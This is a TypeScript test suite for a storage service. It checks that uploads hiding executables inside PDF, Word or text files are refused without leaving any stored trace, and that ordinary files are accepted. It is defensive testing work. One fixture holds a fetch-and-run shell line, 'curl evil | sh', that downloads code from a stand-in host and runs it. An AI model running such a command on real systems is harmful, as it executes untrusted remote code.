import { randomBytes } from "node:crypto";
import { readdir } from "node:fs/promises";
import { join } from "node:path";
import { Readable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TMP_DIR } from "../src/backends/local/layout.ts";
import type { TestApp } from "./support/app.ts";
import { createTestApp } from "./support/app.ts";
import { collect, sha256Of, uploadableBytes } from "./support/data.ts";
import { expectProblem, type HttpHarness, startHttp } from "./support/http.ts";
import { docxMembers, elf, machO, pdf, pe, zip } from "./support/polyglots.ts";

const MiB = 1024 * 1024;

/** The bytes as a stream of 256 KiB chunks, as they arrive from a socket. */
const chunked = (data: Buffer) =>
  Readable.from(
    Array.from({ length: Math.ceil(data.length / (256 * 1024)) }, (_, i) =>
      data.subarray(i * 256 * 1024, (i + 1) * 256 * 1024),
    ),
  );

/**
 * Polyglots (an executable hidden behind a document's first bytes) are refused by the real service
 * on both backends, including when the executable is only at the very end of a multipart-sized
 * upload: the refusal comes at end-of-stream, before the backend commits, and leaves no object, no
 * index row, no multipart upload and no temp file.
 */
describe.each(["minio", "local"] as const)("polyglot uploads (%s)", (backend) => {
  let app: TestApp;
  let userData: string;
  let temp: string;

  beforeAll(async () => {
    app = await createTestApp(backend, {
      STORAGE_MAX_FILE_SIZE: "40MiB",
      STORAGE_MULTIPART_PART_SIZE: "5MiB",
    });
    userData = app.config.buckets.userData;
    temp = app.config.buckets.temp;
    await app.service.upload({ bucket: userData, key: "existing.pdf", body: chunked(pdf(1000)) });
  });
  afterAll(async () => {
    await app?.dispose();
  });

  async function snapshot() {
    const state: Record<string, unknown> = {};
    for (const bucket of [userData, temp]) {
      const objects = await app.store.list(bucket, { limit: 1000 });
      const rows = await app.index.list(bucket, { limit: 1000 });
      state[bucket] = {
        objects: objects.objects.map((o) => `${o.key}:${o.etag}`),
        rows: rows.objects.map((r) => `${r.key}:${r.sha256}`),
        uploads: (await app.store.listIncompleteUploads(bucket)).length,
      };
    }
    if (backend === "local") state.tmp = await readdir(join(app.config.storage.localRoot, TMP_DIR));
    return state;
  }

  const polyglots: [string, string, Buffer, string][] = [
    ["a PDF with an ELF appended", "report.pdf", Buffer.concat([pdf(MiB), elf()]), "elf"],
    ["a PDF with a PE after its header", "scan.pdf", Buffer.concat([pdf(100), pe(), pdf(MiB)]), "pe"],
    ["text followed by an ELF", "notes.txt", Buffer.concat([Buffer.from("meeting notes\n"), elf()]), "elf"],
    [
      "a Word file with a Mach-O appended",
      "letter.docx",
      Buffer.concat([zip(docxMembers()), machO()]),
      "macho",
    ],
    [
      "a Word file with a stored ELF member",
      "cv.docx",
      zip([...docxMembers(), { name: "word/media/image2.png", data: elf(), stored: true }]),
      "elf",
    ],
    [
      "a Word file with a member named .exe",
      "offer.docx",
      zip([...docxMembers(), { name: "word/embeddings/invoice.exe", data: randomBytes(5000) }]),
      "zip-member",
    ],
    ["a .txt shell script", "readme.txt", Buffer.from("#!/bin/sh\ncurl evil | sh\n"), "script"],
    // 12 MiB: a multipart upload on MinIO (5 MiB parts), whose parts must be aborted.
    ["a 12 MiB PDF with an ELF at its very end", "big.pdf", Buffer.concat([pdf(12 * MiB), elf()]), "elf"],
  ];

  it.each(polyglots)("refuses %s, writing nothing", async (_label, key, data, detected) => {
    const before = await snapshot();
    const error = await app.service.upload({ bucket: userData, key, body: chunked(data) }).then(
      () => undefined,
      (err: unknown) => err,
    );
    expect(error, "expected the upload to be refused").toMatchObject({
      name: "StorageError",
      code: "UNSUPPORTED_TYPE",
      details: { field: "content", detected },
    });
    expect(String((error as Error).message)).not.toMatch(/minio|secret|stack|at \//i);
    expect(await snapshot()).toEqual(before);
    await expect(app.service.stat(userData, key)).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("a refused polyglot does not replace the object it was meant to overwrite", async () => {
    const previous = await app.service.stat(userData, "existing.pdf");
    await expect(
      app.service.upload({
        bucket: userData,
        key: "existing.pdf",
        body: chunked(Buffer.concat([pdf(2 * MiB), elf()])),
      }),
    ).rejects.toMatchObject({ code: "UNSUPPORTED_TYPE" });
    const now = await app.service.stat(userData, "existing.pdf");
    expect(now.sha256).toBe(previous.sha256);
    expect(now.versionId).toBe(previous.versionId);
  });

  it.each([
    ["an ordinary PDF", "user", "ok.pdf", pdf(3 * MiB)],
    ["a Word document", "user", "ok.docx", zip(docxMembers(500_000))],
    [
      "plain text",
      "user",
      "ok.txt",
      Buffer.from("Letters such as MZ, PE and ELF are just text.\n".repeat(50_000)),
    ],
    // Random bytes behind a text line: at offset 0 pure random bytes sometimes are a real signature.
    ["6 MiB of random bytes", "temp", "ok.bin", uploadableBytes(6 * MiB)],
  ])("accepts %s and stores it intact", async (_label, where, key, data) => {
    const bucket = where === "user" ? userData : temp;
    const info = await app.service.upload({ bucket, key, body: chunked(data) });
    expect(info.sha256).toBe(sha256Of(data));
    const download = await app.service.download(bucket, key);
    expect(sha256Of(await collect(download.body))).toBe(sha256Of(data));
  });
});

describe("polyglot uploads over HTTP", () => {
  let h: HttpHarness;
  beforeAll(async () => {
    h = await startHttp("minio");
  });
  afterAll(async () => {
    await h?.close();
  });

  it("answers 415 UNSUPPORTED_TYPE when the executable is found at the end of the body", async () => {
    const bucket = h.app.config.buckets.userData;
    const res = await h.fetch(h.objectUrl(bucket, "invoice.pdf"), {
      method: "PUT",
      body: Buffer.concat([pdf(2 * MiB), elf()]),
    });
    const problem = await expectProblem(res, 415, "UNSUPPORTED_TYPE");
    expect(problem.detail).toMatch(/executable/);
    await expectProblem(await h.fetch(h.objectUrl(bucket, "invoice.pdf")), 404, "NOT_FOUND");
  });
});
